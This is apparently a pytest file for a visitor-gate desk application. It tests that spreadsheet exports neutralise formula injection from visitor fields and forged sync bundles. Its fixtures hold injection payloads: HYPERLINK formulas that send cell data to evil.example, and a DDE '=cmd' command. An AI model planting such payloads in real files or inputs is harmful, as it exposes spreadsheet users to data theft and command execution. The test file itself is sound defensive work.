"""Spreadsheets are safe to open: whatever a visitor said or a bundle carried, no cell of a file
GateDesk writes is a formula, in .xlsx as in .csv."""
from __future__ import annotations

import csv
import zipfile
from datetime import timedelta

import pytest

from models import sync
from models.app.desk import Desk
from models.formats.spreadsheets import FORMULA_LEADS
from models.office import dashboard as office
from models.office import reports
from models.sync import Importer, ensure_office, export_bundle
from models.trust.operators import Role
from tests.models.test_trust import PINS, visitor
from tests.sync_helpers import craft, enroll, joined, lines, signing_key

HOSTILE = {"origin": '=HYPERLINK("http://evil.example/?"&A1,"点这里")', "destination": "=cmd|' /C calc'!A0",
           "host": "+SUM(1,1)", "purpose": "@SUM(A1:A9)", "name": "-2+3"}


def assert_no_formula(xlsx) -> None:
    from openpyxl import load_workbook

    with zipfile.ZipFile(xlsx) as zf:
        for name in zf.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in zf.read(name) and b"<f " not in zf.read(name), name
    book = load_workbook(xlsx)  # not read-only: every cell with its type
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)


def assert_csv_is_inert(path) -> list[list[str]]:
    with open(path, encoding="utf-8-sig", newline="") as f:
        rows = list(csv.reader(f))
    for row in rows:
        for value in row:
            assert not value.startswith(FORMULA_LEADS), value
    return rows


@pytest.fixture
def desk(db, station, now):
    d = Desk(db, clock=lambda: now)
    d.staff.sign_in(next(o.id for o in d.staff.operators() if o.name == "张保安"), PINS["张保安"])
    return d


def test_what_a_visitor_said_stays_text_in_the_logs_for_people(desk, tmp_path, now):
    desk.gate.register(visitor(**HOSTILE))
    with desk.authorised(next(o.id for o in desk.staff.operators() if o.name == "林管理"), PINS["林管理"], Role.ADMIN):
        result = desk.sync.export_bundle(tmp_path / "usb", full_data=True)  # unmasked: the name is there too
        xlsx = next(p for p in result.sheets if p.suffix == ".xlsx")
        assert_no_formula(xlsx)
        from openpyxl import load_workbook

        values = {c.value for row in load_workbook(xlsx)["登记"].iter_rows() for c in row}
        assert {HOSTILE[k] for k in ("origin", "destination", "name")} <= values  # kept exactly, as text
        rows = assert_csv_is_inert(next(p for p in result.sheets if p.name.endswith("_visits.csv")))
        assert "'" + HOSTILE["origin"] in rows[1] and "'" + HOSTILE["name"] in rows[1]


def test_names_from_a_bundle_stay_text_in_the_daily_report(desk, tmp_path, now, open_office):
    desk.gate.register(visitor())
    path = export_bundle(desk.db, tmp_path / "usb", sheets=False, now=now).path
    evil = '=HYPERLINK("http://evil.example","报表")'
    forged = craft(path, tmp_path / "evil.gdbundle", signing_key(desk.db),
                   members={"compound.jsonl": lambda data: joined([dict(r, name=evil) for r in lines(data)])},
                   manifest=lambda m: m["compound"].update(name=evil))
    off = open_office(tmp_path / "office" / "gatedesk.sqlite3")
    ensure_office(off)
    enroll(off, desk.db)
    assert Importer(off, clock=lambda: now + timedelta(hours=1)).run(forged).status == "accepted"
    zone = desk.settings.zone
    day = now.astimezone(zone).date()
    with off.session() as s:
        summary = office.day_summary(s, day, zone)
        missing = sync.not_reported(s, day + timedelta(days=2), zone, now=now + timedelta(days=3))
    assert missing and evil in missing[0]
    out = reports.write_report(summary, tmp_path / "report.xlsx", language="zh_CN", office="=1+1", missing=missing)
    assert_no_formula(out)
    off.close()
